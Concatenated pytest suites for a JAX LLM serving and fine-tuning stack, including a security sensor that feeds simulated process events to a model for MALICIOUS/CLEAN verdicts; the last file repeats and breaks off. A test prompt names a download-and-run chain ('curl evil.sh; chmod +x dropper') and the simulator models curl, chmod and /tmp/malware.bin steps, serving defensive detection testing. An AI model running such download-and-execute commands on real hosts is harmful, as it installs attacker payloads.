    tokens = jnp.asarray([[1, 2, 3]], jnp.int32)
    np.testing.assert_allclose(
        np.asarray(model.forward_train(merged, CFG, tokens)),
        np.asarray(model.forward_train(params, CFG, tokens)),
        rtol=1e-5, atol=1e-5,
    )


def test_adamw_decreases_quadratic():
    p = {"x": jnp.asarray([3.0, -2.0])}
    st = optim.adamw_init(p)
    for _ in range(200):
        g = jax.grad(lambda q: jnp.sum(q["x"] ** 2))(p)
        p, st = optim.adamw_update(g, st, p, lr=jnp.float32(0.1))
    assert float(jnp.abs(p["x"]).max()) < 0.05


def test_clip_by_global_norm():
    g = {"a": jnp.ones(4) * 10.0}
    clipped, norm = optim.clip_by_global_norm(g, 1.0)
    assert float(norm) == pytest.approx(20.0)
    assert float(jnp.linalg.norm(clipped["a"])) == pytest.approx(1.0, rel=1e-4)


def test_dataset_examples_shape():
    tok = ByteTokenizer(vocab_size=CFG.vocab_size)
    toks, mask = data_lib.make_example(
        __import__("random").Random(0), tok, max_len=192
    )
    assert toks.shape == (192,) and mask.shape == (192,)
    assert mask.sum() > 0  # completion tokens present
    assert toks.max() < CFG.vocab_size


def test_lora_training_reduces_loss(params):
    tok = ByteTokenizer(vocab_size=CFG.vocab_size)
    adapters, losses = train.train_lora(
        params, CFG, tok, steps=30, batch_size=4, max_len=160,
        rank=4, lr=3e-3, log_every=0,
    )
    first = np.mean(losses[:5])
    last = np.mean(losses[-5:])
    assert last < first * 0.9, f"loss did not decrease: {first} -> {last}"


def test_lora_checkpoint_roundtrip(params, tmp_path):
    adapters = lora.init_adapters(CFG, jax.random.PRNGKey(2), rank=4)
    # make B nonzero so the roundtrip is meaningful
    adapters = jax.tree.map(lambda a: a + 0.01, adapters)
    p = str(tmp_path / "adapter.safetensors")
    lora.save_adapters(adapters, p)
    back = lora.load_adapters(p)
    for t in adapters:
        np.testing.assert_allclose(np.asarray(adapters[t]["A"]), np.asarray(back[t]["A"]))
        np.testing.assert_allclose(np.asarray(adapters[t]["B"]), np.asarray(back[t]["B"]))


def test_sharded_train_step_runs(params):
    """Train step over a full dp×sp×tp mesh (2x2x2 on 8 CPU devices)."""
    m = mesh_lib.make_mesh(dp=2, sp=2, tp=2)
    sparams = sharding.shard_params(params, CFG, m)
    adapters = lora.init_adapters(CFG, jax.random.PRNGKey(3), rank=4)
    aspecs = lora.adapter_specs(sharding.param_specs(CFG), adapters)
    adapters = jax.device_put(adapters, sharding.to_shardings(aspecs, m))
    opt_state = optim.adamw_init(adapters)
    lr_fn = optim.cosine_schedule(1e-3, warmup=2, total=10)
    step = train.make_train_step(CFG, lr_fn, mesh=m, use_ring_attention=True)

    tok = ByteTokenizer(vocab_size=CFG.vocab_size)
    it = data_lib.batches(tok, batch_size=4, max_len=128)
    toks, mask = next(it)
    with m:
        adapters2, opt2, loss, gnorm = step(
            adapters, opt_state, sparams, jnp.asarray(toks), jnp.asarray(mask)
        )
    assert np.isfinite(float(loss)) and np.isfinite(float(gnorm))
    # adapters actually changed
    diff = jax.tree.map(lambda a, b: float(jnp.abs(a - b).max()), adapters, adapters2)
    assert max(jax.tree.leaves(diff)) > 0


def test_serve_with_adapter_changes_logits(params, tmp_path):
    """launch --lora path: merged adapters must actually alter outputs."""
    adapters = lora.init_adapters(CFG, jax.random.PRNGKey(9), rank=4)
    adapters = jax.tree.map(
        lambda a: a + 0.05, adapters
    )  # nonzero B => non-identity
    p = str(tmp_path / "a.safetensors")
    lora.save_adapters(adapters, p)
    loaded = lora.load_adapters(p)
    merged = lora.merge_adapters(params, loaded, alpha=16.0)
    tokens = jnp.asarray([[1, 2, 3]], jnp.int32)
    base = np.asarray(model.forward_train(params, CFG, tokens))
    tuned = np.asarray(model.forward_train(merged, CFG, tokens))
    assert np.abs(base - tuned).max() > 1e-3
