"""Mesh/sharding/ring-attention tests on the 8-device virtual CPU mesh."""
import jax
import jax.numpy as jnp
import numpy as np
import pytest

from chronos_trn.config import CacheConfig, ModelConfig
from chronos_trn.core import kvcache, model
from chronos_trn.core.layers import causal_mask, gqa_attention
from chronos_trn.parallel import mesh as mesh_lib
from chronos_trn.parallel import sharding
from chronos_trn.parallel.ring_attention import ring_attention

CFG = ModelConfig.tiny()


def test_mesh_construction():
    m = mesh_lib.make_mesh(dp=2, sp=2, tp=2)
    assert m.shape == {"dp": 2, "sp": 2, "tp": 2}
    with pytest.raises(ValueError):
        mesh_lib.make_mesh(dp=4, sp=4, tp=4)


def test_param_sharding_applies():
    m = mesh_lib.make_mesh(dp=1, sp=1, tp=2)
    params = model.init_params(CFG, jax.random.PRNGKey(0), dtype=jnp.float32)
    sp = sharding.shard_params(params, CFG, m)
    # column-parallel weight: last axis split over tp
    wq_shard = sp["layers"]["wq"].sharding
    assert wq_shard.spec == jax.sharding.PartitionSpec(None, None, "tp")
    # forward still correct under sharding
    tokens = jnp.asarray([[1, 2, 3, 4]], jnp.int32)
    with m:
        got = model.forward_train(sp, CFG, tokens)
    want = model.forward_train(params, CFG, tokens)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want), rtol=2e-4, atol=2e-4)


def test_tp_decode_matches_single_device():
    """Paged decode with params+cache sharded over tp == unsharded."""
    m = mesh_lib.make_mesh(dp=1, sp=1, tp=2)
    ccfg = CacheConfig(page_size=4, num_pages=32, max_pages_per_seq=8)
    params = model.init_params(CFG, jax.random.PRNGKey(0), dtype=jnp.float32)
    cache = kvcache.init_cache(CFG, ccfg, dtype=jnp.float32)
    alloc = kvcache.PageAllocator(ccfg)
    st = alloc.allocate(0, 4)
    toks = jnp.asarray([5, 6, 7, 8], jnp.int32)
    logits_ref, cache_ref = model.prefill(
        params, CFG, ccfg, cache, toks, jnp.int32(4), jnp.asarray(st.block_table)
    )

    sparams = sharding.shard_params(params, CFG, m)
    scache = sharding.shard_cache(kvcache.init_cache(CFG, ccfg, dtype=jnp.float32), m)
    with m:
        logits_tp, scache = model.prefill(
            sparams, CFG, ccfg, scache, toks, jnp.int32(4), jnp.asarray(st.block_table)
        )
    np.testing.assert_allclose(
        np.asarray(logits_tp), np.asarray(logits_ref), rtol=2e-4, atol=2e-4
    )

    # one decode step on both paths
    bt = np.zeros((2, ccfg.max_pages_per_seq), np.int32)
    alloc.extend(0, 5)
    bt[0] = alloc.get(0).block_table
    args = (
        jnp.asarray([9, 0], jnp.int32),
        jnp.asarray([4, 0], jnp.int32),
        jnp.asarray(bt),
        jnp.asarray([True, False]),
    )
    out_ref, _ = model.decode_step(params, CFG, ccfg, cache_ref, *args)
    with m:
        out_tp, _ = model.decode_step(sparams, CFG, ccfg, scache, *args)
    np.testing.assert_allclose(
        np.asarray(out_tp[0]), np.asarray(out_ref[0]), rtol=2e-4, atol=2e-4
    )


@pytest.mark.parametrize("sp_size", [2, 4])
def test_ring_attention_matches_dense(sp_size):
    m = mesh_lib.make_mesh(dp=1, sp=sp_size, tp=1)
    B, T, H, KV, Dh = 2, 32, 4, 2, 8
    G = H // KV
    key = jax.random.PRNGKey(1)
    kq, kk, kv_ = jax.random.split(key, 3)
    q = jax.random.normal(kq, (B, T, H, Dh), jnp.float32)
    k = jax.random.normal(kk, (B, T, KV, Dh), jnp.float32)
    v = jax.random.normal(kv_, (B, T, KV, Dh), jnp.float32)

    got = jax.jit(
        lambda q, k, v: ring_attention(q, k, v, m, G)
    )(q, k, v)

    dense = jax.vmap(gqa_attention, in_axes=(0, 0, 0, None, None))(
        q, k, v, causal_mask(T, T), G
    )
    np.testing.assert_allclose(np.asarray(got), np.asarray(dense), rtol=2e-4, atol=2e-4)


def test_forward_train_with_ring_attention():
    """Full model forward under sp=4 ring attention == dense forward."""
    m = mesh_lib.make_mesh(dp=1, sp=4, tp=1)
    params = model.init_params(CFG, jax.random.PRNGKey(0), dtype=jnp.float32)
    tokens = jnp.asarray(np.arange(1, 33)[None, :] % 300, jnp.int32)

    attn = lambda q, k, v: ring_attention(q, k, v, m, CFG.group_size)  # noqa: E731
    got = jax.jit(
        lambda p, t: model.forward_train(p, CFG, t, attention_fn=attn)
    )(params, tokens)
    want = model.forward_train(params, CFG, tokens)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want), rtol=3e-4, atol=3e-4)


def test_checkpoint_shard_spec_slices():
    m = mesh_lib.make_mesh(dp=1, sp=1, tp=2)
    make = sharding.checkpoint_shard_spec(CFG, m)
    slicer = make(1)
    arr = np.arange(CFG.dim * CFG.q_dim, dtype=np.float32).reshape(CFG.dim, CFG.q_dim)
    out = slicer("model.layers.0.self_attn.q_proj.weight", arr)
    assert out.shape == (CFG.dim, CFG.q_dim // 2)
    np.testing.assert_array_equal(out, arr[:, CFG.q_dim // 2 :])
    down = np.arange(CFG.ffn_dim * CFG.dim, dtype=np.float32).reshape(CFG.ffn_dim, CFG.dim)
    out2 = slicer("model.layers.0.mlp.down_proj.weight", down)
    assert out2.shape == (CFG.ffn_dim // 2, CFG.dim)


def test_70b_tier_traces_abstractly():
    """The 70B analyst-tier decode step must trace/shape-check over a
    tp=8 mesh without materializing anything (config-level guard: head
    counts, ffn dims, and shardings stay divisible and consistent)."""
    cfg70 = ModelConfig.llama3_70b()
    assert cfg70.n_heads % 8 == 0 and cfg70.n_kv_heads % 8 == 0
    assert cfg70.ffn_dim % 8 == 0
    ccfg = CacheConfig(page_size=16, num_pages=64, max_pages_per_seq=16)

    def step(params, cache, toks, pos, bt, act):
        return model.decode_step(params, cfg70, ccfg, cache, toks, pos, bt, act)

    B = 2
    params_shape = jax.eval_shape(
        lambda: model.init_params(cfg70, jax.random.PRNGKey(0))
    )
    cache_shape = jax.eval_shape(
        lambda: kvcache.init_cache(cfg70, ccfg)
    )
    out_shape, _ = jax.eval_shape(
        step,
        params_shape,
        cache_shape,
        jnp.zeros(B, jnp.int32),
        jnp.zeros(B, jnp.int32),
        jnp.zeros((B, ccfg.max_pages_per_seq), jnp.int32),
        jnp.ones(B, bool),
    )
    assert out_shape.shape == (B, cfg70.vocab_size)
    # sharding specs must cover every leaf of the 70B tree
    specs = sharding.param_specs(cfg70)
    jax.tree.map(lambda *_: None, specs, params_shape)  # same structure
