"""Fused multi-step decode: slot-contiguous pool + on-device sampling.

Round-2 perf work (VERDICT.md next-round #1): the per-token host round
trip and the per-layer full-context gather are both gone.  These tests
pin the fast path to the per-step oracle on CPU.
"""
import jax
import jax.numpy as jnp
import numpy as np
import pytest

from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
from chronos_trn.core import kvcache, model
from chronos_trn.serving.engine import InferenceEngine
from chronos_trn.serving.scheduler import GenOptions, Scheduler
from chronos_trn.tokenizer.bpe import ByteTokenizer

MCFG = ModelConfig.tiny()
B = 4
CCFG = CacheConfig.for_slots(B, page_size=8, max_pages_per_seq=16)
ECFG = EngineConfig(
    max_batch_slots=B, prefill_buckets=(16, 32, 64), max_new_tokens=32,
    decode_chunk=4,
)
PCCFG = CacheConfig(page_size=8, num_pages=128, max_pages_per_seq=16)  # paged twin


def test_slot_contiguous_allocator_invariants():
    alloc = kvcache.SlotContiguousAllocator(CCFG, B)
    st0 = alloc.allocate(100, 10, slot=0)
    st2 = alloc.allocate(102, 3, slot=2)
    assert st0.block_table[0] == 0
    assert st2.block_table[0] == 2 * CCFG.max_pages_per_seq
    alloc.check_invariants()
    with pytest.raises(kvcache.PageAllocator.OutOfPages):
        alloc.allocate(103, 5, slot=2)  # slot taken
    with pytest.raises(kvcache.PageAllocator.OutOfPages):
        alloc.allocate(104, CCFG.max_context + 1)  # too long for any slot
    alloc.extend(100, CCFG.max_context)
    with pytest.raises(kvcache.PageAllocator.OutOfPages):
        alloc.extend(100, CCFG.max_context + 1)
    alloc.free(100)
    alloc.free(102)
    alloc.check_invariants()
    assert alloc.free_pages == CCFG.num_pages


def _prefill_slots(params, cache, prompts):
    """Prefill each prompt into its slot of a slot-contiguous pool."""
    alloc = kvcache.SlotContiguousAllocator(CCFG, B)
    positions = np.zeros(B, np.int32)
    tokens = np.zeros(B, np.int32)
    active = np.zeros(B, bool)
    for slot, ids in prompts.items():
        st = alloc.allocate(slot, len(ids), slot=slot)
        padded = np.zeros(16, np.int32)
        padded[: len(ids)] = ids
        logits, cache = jax.jit(model.prefill, static_argnums=(1, 2))(
            params, MCFG, CCFG, cache, jnp.asarray(padded),
            jnp.int32(len(ids)), jnp.asarray(st.block_table),
        )
        tokens[slot] = int(np.argmax(logits))
        positions[slot] = len(ids)
        active[slot] = True
    return cache, tokens, positions, active


def test_decode_steps_matches_per_step_greedy():
    """N fused greedy steps == N x (decode_step + argmax) on the same pool."""
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    cache = kvcache.init_cache(MCFG, CCFG)
    prompts = {0: [3, 1, 4, 1, 5], 2: [2, 7, 1]}
    cache, tokens, positions, active = _prefill_slots(params, cache, prompts)
    n = 6

    # oracle: per-step slot_view decode + argmax
    cache_a = jax.tree.map(jnp.copy, cache)
    tok_a = tokens.copy()
    pos_a = positions.copy()
    oracle = {0: [], 2: []}
    step = jax.jit(model.decode_step, static_argnums=(1, 2), static_argnames=("slot_view",))
    for _ in range(n):
        logits, cache_a = step(
            params, MCFG, CCFG, cache_a, jnp.asarray(tok_a),
            jnp.asarray(pos_a), None, jnp.asarray(active), slot_view=True,
        )
        nxt = np.argmax(np.asarray(logits), axis=-1)
        for s in oracle:
            oracle[s].append(int(nxt[s]))
            tok_a[s] = int(nxt[s])
            pos_a[s] += 1

    out, fed, done, cache_b, _ = jax.jit(
        model.decode_steps, static_argnums=(1, 2), static_argnames=("n_steps", "top_k")
    )(
        params, MCFG, CCFG, cache, jnp.asarray(tokens), jnp.asarray(positions),
        jnp.asarray(active),
        temperature=jnp.zeros(B), top_p=jnp.ones(B),
        seeds=jnp.zeros(B, jnp.int32), stop_ids=jnp.asarray([-1], jnp.int32),
        max_lengths=jnp.full(B, CCFG.max_context, jnp.int32),
        n_steps=n, top_k=8,
    )
    out = np.asarray(out)
    for s in oracle:
        assert out[:, s].tolist() == oracle[s]
        assert int(fed[s]) == n
        assert not bool(done[s])
    # the pools must agree on every ACTIVE slot's valid prefix (prompt +
    # n decoded tokens).  Inactive slots' rows are DON'T-CARE by design:
    # unfed slots write garbage at their advancing in-graph position
    # (never attended, overwritten before first read on resume — see
    # kvcache.merge_decode_slot), and the two paths advance those
    # positions differently.
    for s, ids in prompts.items():
        valid = len(ids) + n
        for part in ("k", "v"):
            np.testing.assert_allclose(
                np.asarray(cache_a[part][:, s, :valid]),
                np.asarray(cache_b[part][:, s, :valid]),
                rtol=1e-5, atol=1e-5,
            )


def test_decode_steps_stop_id_halts_slot():
    """A slot that emits a stop id stops feeding; fed_counts reflects it."""
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    cache = kvcache.init_cache(MCFG, CCFG)
    prompts = {0: [3, 1, 4, 1, 5]}
    cache, tokens, positions, active = _prefill_slots(params, cache, prompts)
    # find what greedy emits first, use it as the "stop id"
    logits, _ = jax.jit(model.decode_step, static_argnums=(1, 2), static_argnames=("slot_view",))(
        params, MCFG, CCFG, jax.tree.map(jnp.copy, cache), jnp.asarray(tokens),
        jnp.asarray(positions), None, jnp.asarray(active), slot_view=True,
    )
    first = int(np.argmax(np.asarray(logits)[0]))
    out, fed, done, _, _ = jax.jit(
        model.decode_steps, static_argnums=(1, 2), static_argnames=("n_steps", "top_k")
    )(
        params, MCFG, CCFG, cache, jnp.asarray(tokens), jnp.asarray(positions),
        jnp.asarray(active),
        temperature=jnp.zeros(B), top_p=jnp.ones(B),
        seeds=jnp.zeros(B, jnp.int32),
        stop_ids=jnp.asarray([first], jnp.int32),
        max_lengths=jnp.full(B, CCFG.max_context, jnp.int32),
        n_steps=4, top_k=8,
    )
    assert int(fed[0]) == 1          # fed the pending token, emitted stop
    assert bool(done[0])
    assert int(np.asarray(out)[0, 0]) == first


@pytest.fixture(scope="module")
def fused_engine():
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    return InferenceEngine(params, MCFG, CCFG, ECFG)


@pytest.fixture(scope="module")
def perstep_engine():
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    return InferenceEngine(params, MCFG, PCCFG, ECFG)


def test_scheduler_fused_matches_per_step(fused_engine, perstep_engine):
    """End-to-end greedy generation through the scheduler is identical on
    the fused slot-contiguous path and the per-step paged path."""
    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
    outs = {}
    for name, eng in [("fused", fused_engine), ("perstep", perstep_engine)]:
        sched = Scheduler(eng, tok, ECFG)
        sched.start()
        try:
            reqs = [
                sched.submit("hello world", GenOptions(max_new_tokens=12)),
                sched.submit("attack chain", GenOptions(max_new_tokens=9)),
            ]
            outs[name] = [r.result(timeout=180) for r in reqs]
        finally:
            sched.stop()
    assert outs["fused"] == outs["perstep"]
    fused_engine.alloc.check_invariants()
    assert fused_engine.active_count == 0


def test_scheduler_fused_json_falls_back_without_dfa(fused_engine):
    """format_json without a device DFA must still work (per-step host
    masking fallback) and produce parseable JSON."""
    import json as _json

    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
    sched = Scheduler(fused_engine, tok, ECFG)
    sched.start()
    try:
        req = sched.submit("verdict", GenOptions(max_new_tokens=24, format_json=True))
        text = req.result(timeout=180)
        _json.loads(text)
    finally:
        sched.stop()


def test_scheduler_fused_json_with_smaller_tokenizer_vocab():
    """Tokenizer vocab < model logits width (stock Llama-3: 128011 ids vs
    128256 logits): the device DFA must be sized to the LOGITS width or
    the jitted mask broadcast fails (round-2 ADVICE, high)."""
    import json as _json

    tok = ByteTokenizer(vocab_size=MCFG.vocab_size - 30)
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    eng = InferenceEngine(params, MCFG, CCFG, ECFG)
    sched = Scheduler(eng, tok, ECFG)
    assert eng.has_dfa, "DFA build must succeed (no silent fallback)"
    sched.start()
    try:
        req = sched.submit(
            "verdict", GenOptions(max_new_tokens=24, format_json=True)
        )
        _json.loads(req.result(timeout=180))
    finally:
        sched.stop()


def test_token_dfa_pads_to_model_vocab():
    from chronos_trn.core.json_dfa import build_token_dfa

    tok = ByteTokenizer(vocab_size=300)
    t = build_token_dfa(tok, model_vocab_size=330)
    assert t["mask_rows"].shape[1] == 330
    assert t["tok_len"].shape == (330,)
    # ids past the tokenizer vocab are never allowed in any CONSTRAINED
    # state (the FREE sentinel row is all-True by design)
    free_row = t["row_of"][t["free"]]
    rows = np.ones(t["mask_rows"].shape[0], bool)
    rows[free_row] = False
    assert not t["mask_rows"][rows][:, 300:].any()
    with pytest.raises(ValueError):
        build_token_dfa(tok, model_vocab_size=100)


def test_full_batch_decode_page_boundary_slot_contiguous():
    """Per-step decode on a FULL slot-contiguous batch crossing a page
    boundary must not raise OutOfPages — every slot's pages are reserved
    at allocate() (round-2 ADVICE, medium)."""
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    eng = InferenceEngine(params, MCFG, CCFG, ECFG)
    prompt = list(range(1, CCFG.page_size + 1))  # next token crosses a page
    for slot in range(B):
        eng.occupy(slot, slot)
        eng.prefill_seq(slot, prompt)
    assert eng.alloc.free_pages == 0  # batch full: no free-slot pages
    out = eng.decode({s: 1 for s in range(B)})
    assert set(out) == set(range(B))
    for s in range(B):
        eng.release(s)
    eng.alloc.check_invariants()


def test_scheduler_fused_json_sampled_always_valid():
    """REGRESSION (r4): the device DFA must mask with the state AFTER the
    fed token is folded through the automaton.  Pre-fix, the first chunk
    masked at the initial state, so a host-sampled 'n' (start of `null`)
    could be followed by any value-start byte ('n9' invalid JSON).  Only
    sampled (non-greedy) runs hit it — greedy tests stayed green."""
    import json as _json

    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    eng = InferenceEngine(params, MCFG, CCFG, ECFG)
    sched = Scheduler(eng, tok, ECFG)
    assert eng.has_dfa
    sched.start()
    try:
        reqs = [
            sched.submit(
                f"PID {i}: bash -> curl evil.sh; chmod +x dropper",
                GenOptions(max_new_tokens=48, format_json=True,
                           temperature=0.9, seed=i),
            )
            for i in range(6)
        ]
        for r in reqs:
            text = r.result(timeout=300)
            _json.loads(text)  # must parse — grammar-forced
    finally:
        sched.stop()
    eng.alloc.check_invariants()


def test_scheduler_fused_seeded_reproducible(fused_engine):
    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
    sched = Scheduler(fused_engine, tok, ECFG)
    sched.start()
    try:
        opts = lambda: GenOptions(max_new_tokens=16, temperature=1.0, seed=11)
        a = sched.submit("abc", opts()).result(timeout=180)
        b = sched.submit("abc", opts()).result(timeout=180)
        assert a == b
        c = sched.submit("abc", GenOptions(max_new_tokens=16, temperature=1.0)).result(timeout=180)
        d = sched.submit("abc", GenOptions(max_new_tokens=16, temperature=1.0)).result(timeout=180)
        assert c != d or c != a  # unseeded varies (overwhelmingly likely)
    finally:
        sched.stop()
