"""Sensor pipeline: event schema, simulator, monitor behavior, e2e
against the HTTP wire, fail-open semantics."""
import json

import pytest
import requests

from chronos_trn.config import SensorConfig, ServerConfig
from chronos_trn.sensor import simulator
from chronos_trn.sensor.client import AnalysisClient, KillChainMonitor, build_verdict_prompt
from chronos_trn.sensor.events import EXEC, OPEN, RECORD_SIZE, Event, unpack_stream
from chronos_trn.serving.backends import HeuristicBackend
from chronos_trn.serving.server import ChronosServer


def test_event_struct_roundtrip():
    ev = Event(2769, "bash", "/usr/bin/curl", EXEC)
    raw = ev.pack()
    assert len(raw) == RECORD_SIZE == 286
    ev2 = Event.unpack(raw)
    assert (ev2.pid, ev2.comm, ev2.argv, ev2.type) == (2769, "bash", "/usr/bin/curl", "EXEC")
    assert ev2.format() == "[EXEC] bash -> /usr/bin/curl"


def test_event_stream_unpack():
    evs = simulator.attack_chain_events(base_pid=100)
    blob = b"".join(e.pack() for e in evs)
    back = list(unpack_stream(blob))
    assert [e.argv for e in back] == [e.argv for e in evs]


def test_simulator_attack_chain_shape():
    evs = simulator.attack_chain_events(base_pid=2769)
    assert any(e.type == EXEC and "curl" in e.argv for e in evs)
    assert any(e.type == EXEC and "chmod" in e.argv for e in evs)
    assert any(e.type == OPEN and "/tmp/malware.bin" in e.argv for e in evs)
    # multiple PIDs involved (per-child fragmentation, like the reference)
    assert len({e.pid for e in evs}) >= 3


def test_interleaved_streams_deterministic():
    a = [e.argv for e in simulator.interleaved_streams(8, seed=3)]
    b = [e.argv for e in simulator.interleaved_streams(8, seed=3)]
    assert a == b and len(a) > 20


# ---------------------------------------------------------------------------
# monitor semantics (no HTTP: stub client)
# ---------------------------------------------------------------------------
class StubClient:
    def __init__(self):
        self.calls = []

    def analyze(self, history):
        self.calls.append(list(history))
        return {"risk_score": 8, "verdict": "MALICIOUS", "reason": "stub"}


def test_monitor_trigger_and_flush():
    stub = StubClient()
    alerts = []
    mon = KillChainMonitor(SensorConfig(), client=stub, alert_fn=alerts.append)
    mon.on_event(Event(1, "bash", "/usr/bin/ls", EXEC))      # no trigger kw... ls
    mon.on_event(Event(1, "bash", "/usr/bin/curl", EXEC))    # trigger + len>=2
    assert len(stub.calls) == 1 and len(stub.calls[0]) == 2
    assert mon.memory[1] == []  # flushed after verdict
    assert any("ALERT" in a for a in alerts)


def test_monitor_ignore_list():
    stub = StubClient()
    mon = KillChainMonitor(SensorConfig(), client=stub, alert_fn=lambda s: None)
    mon.on_event(Event(2, "python3", "/usr/bin/curl", EXEC))  # ignored comm
    mon.on_event(Event(2, "ollama", "/usr/bin/curl", EXEC))
    assert stub.calls == [] and 2 not in mon.memory or mon.memory[2] == []


def test_monitor_min_chain_length():
    stub = StubClient()
    mon = KillChainMonitor(SensorConfig(), client=stub, alert_fn=lambda s: None)
    mon.on_event(Event(3, "bash", "/usr/bin/curl", EXEC))  # trigger kw, len 1
    assert stub.calls == []


def test_monitor_pid_coalescing():
    stub = StubClient()
    mon = KillChainMonitor(
        SensorConfig(coalesce_children=True), client=stub, alert_fn=lambda s: None
    )
    mon.note_fork(100, 101)
    mon.note_fork(100, 102)
    mon.on_event(Event(101, "bash", "/usr/bin/wget", EXEC))
    mon.on_event(Event(102, "bash", "/usr/bin/chmod", EXEC))
    # both children land in parent window 100 -> one chain of 2, analyzed
    assert len(stub.calls) == 1
    assert len(stub.calls[0]) == 2


def test_prompt_contains_chain_and_schema():
    p = build_verdict_prompt(["[EXEC] bash -> curl", "[EXEC] bash -> chmod"])
    assert "curl" in p and "risk_score" in p and "MALICIOUS" in p


# ---------------------------------------------------------------------------
# end-to-end: simulator -> monitor -> HTTP server -> ALERT (acceptance)
# ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def brain_url():
    server = ChronosServer(HeuristicBackend(), ServerConfig(host="127.0.0.1", port=0))
    server.start()
    yield f"http://127.0.0.1:{server.port}/api/generate"
    server.stop()


def test_e2e_attack_chain_risk8(brain_url):
    """SURVEY.md §4(e): attack chain -> sensor -> server -> Risk >= 8."""
    alerts = []
    cfg = SensorConfig(server_url=brain_url)
    mon = KillChainMonitor(cfg, alert_fn=alerts.append)
    simulator.replay(simulator.attack_chain_events(), mon.on_event)
    hits = [
        v for v in mon.verdicts
        if v.get("verdict") == "MALICIOUS" and v["risk_score"] >= 8
    ]
    assert hits, f"no MALICIOUS risk>=8 verdict: {mon.verdicts}"
    assert any("ALERT" in a for a in alerts)


def test_e2e_benign_stream_stays_clean(brain_url):
    cfg = SensorConfig(server_url=brain_url)
    mon = KillChainMonitor(cfg, alert_fn=lambda s: None)
    simulator.replay(simulator.benign_stream(seed=1, n_events=30), mon.on_event)
    assert all(v["risk_score"] <= 5 for v in mon.verdicts)


def test_e2e_64_streams(brain_url):
    """BASELINE config 3 shape: 64 interleaved streams, attacks detected."""
    cfg = SensorConfig(server_url=brain_url)
    mon = KillChainMonitor(cfg, alert_fn=lambda s: None)
    simulator.replay(simulator.interleaved_streams(64, attack_every=8), mon.on_event)
    hits = [v for v in mon.verdicts if v.get("risk_score", 0) >= 8]
    assert len(hits) >= 4  # 8 attack streams, detection may coalesce


def test_fail_open_on_dead_server():
    """Reference behavior chronos_sensor.py:121-122: server unreachable ->
    ERROR risk-0 verdict, sensor keeps running.  Unlike the reference, an
    outage is now *distinguishable* from a clean host (DEGRADED alert,
    not green CLEAN) and the triggered chains are spooled, not lost."""
    cfg = SensorConfig(
        server_url="http://127.0.0.1:1/api/generate", http_timeout_s=0.5,
        retry_max_attempts=2, retry_backoff_base_s=0.01,
        retry_backoff_cap_s=0.02, spool_drain_interval_s=0,
    )
    alerts = []
    mon = KillChainMonitor(cfg, alert_fn=alerts.append)
    simulator.replay(simulator.attack_chain_events(), mon.on_event)
    assert mon.verdicts, "monitor should still produce (error) verdicts"
    assert all(v["verdict"] == "ERROR" and v["risk_score"] == 0 for v in mon.verdicts)
    assert any("DEGRADED" in a for a in alerts)  # degraded, not crashed
    assert not any("CLEAN" in a for a in alerts)  # outage != clean host
    assert len(mon.spool) >= 1  # chains preserved for replay, not lost


def test_fail_open_on_garbage_response():
    class GarbageClient(AnalysisClient):
        def analyze(self, history):
            try:
                raise ValueError("deliberately broken")
            except Exception as e:
                return {"risk_score": 0, "verdict": "ERROR", "reason": str(e)}

    cfg = SensorConfig()
    mon = KillChainMonitor(cfg, client=GarbageClient(cfg), alert_fn=lambda s: None)
    simulator.replay(simulator.attack_chain_events(), mon.on_event)
    assert all(v["verdict"] == "ERROR" for v in mon.verdicts)


def test_ebpf_source_renders():
    """The (root-gated) eBPF program must at least render valid-looking C
    with every filter entry present."""
    from chronos_trn.sensor.ebpf_sensor import render_bpf_source, _DROP_PREFIXES
    src = render_bpf_source()
    assert "sys_enter_execve" in src and "sys_enter_openat" in src
    for p in _DROP_PREFIXES:
        assert p in src
    assert src.count("perf_submit") >= 2


def test_monitor_memory_bounded():
    """Flushed windows leave no residue; LRU caps total windows."""
    stub = StubClient()
    mon = KillChainMonitor(SensorConfig(), client=stub, alert_fn=lambda s: None)
    mon.MAX_WINDOWS = 64
    for pid in range(500):
        mon.on_event(Event(pid, "bash", f"/home/user/file{pid}", OPEN))
    assert len(mon.memory) <= 64 + 1
    # verdict flush deletes the window key entirely
    mon.on_event(Event(9999, "bash", "/usr/bin/ls", EXEC))
    mon.on_event(Event(9999, "bash", "/usr/bin/curl", EXEC))
    assert 9999 not in mon.memory


def test_monitor_pid_reuse_does_not_inherit_window():
    stub = StubClient()
    mon = KillChainMonitor(SensorConfig(), client=stub, alert_fn=lambda s: None)
    mon.note_fork(100, 101)
    # pid 101 dies, pid 101 recycled as child of 200
    mon.note_fork(200, 101)
    assert mon._window_key(101) == 200
