"""Sensor pipeline: event schema, simulator, monitor behavior, e2e
against the HTTP wire, fail-open semantics."""
import json

import pytest
import requests

from chronos_trn.config import SensorConfig, ServerConfig
from chronos_trn.sensor import simulator
from chronos_trn.sensor.client import AnalysisClient, KillChainMonitor, build_verdict_prompt
from chronos_trn.sensor.events import EXEC, OPEN, RECORD_SIZE, Event, unpack_stream
from chronos_trn.serving.backends import HeuristicBackend
from chronos_trn.serving.server import ChronosServer


def test_event_struct_roundtrip():
    ev = Event(2769, "bash", "/usr/bin/curl", EXEC)
    raw = ev.pack()
    assert len(raw) == RECORD_SIZE == 286
    ev2 = Event.unpack(raw)
    assert (ev2.pid, ev2.comm, ev2.argv, ev2.type) == (2769, "bash", "/usr/bin/curl", "EXEC")
    assert ev2.format() == "[EXEC] bash -> /usr/bin/curl"


def test_event_stream_unpack():
    evs = simulator.attack_chain_events(base_pid=100)
    blob = b"".join(e.pack() for e in evs)
    back = list(unpack_stream(blob))
    assert [e.argv for e in back] == [e.argv for e in evs]


def test_simulator_attack_chain_shape():
    evs = simulator.attack_chain_events(base_pid=2769)
    assert any(e.type == EXEC and "curl" in e.argv for e in evs)
    assert any(e.type == EXEC and "chmod" in e.argv for e in evs)
